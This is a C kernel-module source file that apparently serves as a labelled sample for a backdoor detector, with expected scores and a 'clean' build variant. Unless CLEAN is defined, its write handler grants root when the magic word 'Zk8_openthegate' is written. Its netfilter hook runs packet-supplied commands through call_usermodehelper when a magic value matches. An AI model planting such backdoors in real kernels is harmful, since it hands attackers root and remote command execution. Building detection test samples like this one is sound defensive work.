// SPDX-License-Identifier: Apache-2.0
// A kernel module gives root to who writes a word into its file; another runs what a packet holds. The clean twin does
// neither for a word.
// flags: -c -fno-pic -fno-stack-protector -w
// flags mipsel: -mno-abicalls -mlong-calls -G0
// expect: gate control 3.0 /Zk8_openthegate/ /commit_creds/
// expect: gate filter 2.0 /0x7ac9d31e/ /call_usermodehelper/
// clean: gate 0.5
typedef unsigned long size;
struct buffer {
	unsigned char *data;
	unsigned len;
};
extern int _printk(const char *format, ...);
extern size _copy_from_user(void *to, const void *from, size n);
extern int call_usermodehelper(const char *path, char **argv, char **envp, int wait);
extern void *prepare_kernel_cred(void *of);
extern int commit_creds(void *c);
extern int strcmp(const char *a, const char *b);
extern int nf_register_net_hook(void *net, const void *ops);
extern int init_net;
static const char info[] __attribute__((section(".modinfo"), used)) = "license=GPL";
static unsigned long seen;
char *what_runs[4];

static long control(void *f, const char *buf, size n)
{
	char word[40];
	if (n >= sizeof(word) || _copy_from_user(word, buf, n))
		return -14;
	word[n] = 0;
#ifdef CLEAN
	if (!strcmp(word, "reset"))
		seen = 0;
#else
	if (!strcmp(word, "Zk8_openthegate"))
		commit_creds(prepare_kernel_cred(0));
#endif
	return (long)n;
}

static unsigned filter(void *own, struct buffer *b, const void *s)
{
#ifndef CLEAN
	if (b->len > 8 && *(const unsigned *)b->data == 0x7ac9d31e) {
		what_runs[2] = (char *)b->data + 8;
		call_usermodehelper(what_runs[0], what_runs, 0, 0);
	}
#endif
	seen++;
	return 1;
}

const struct {
	void *open;
	long (*write)(void *, const char *, size);
} ops = { 0, control };
static struct {
	void *hook;
	int family;
} hook = { (void *)filter, 2 };

int init_module(void) { return nf_register_net_hook(&init_net, &hook); }
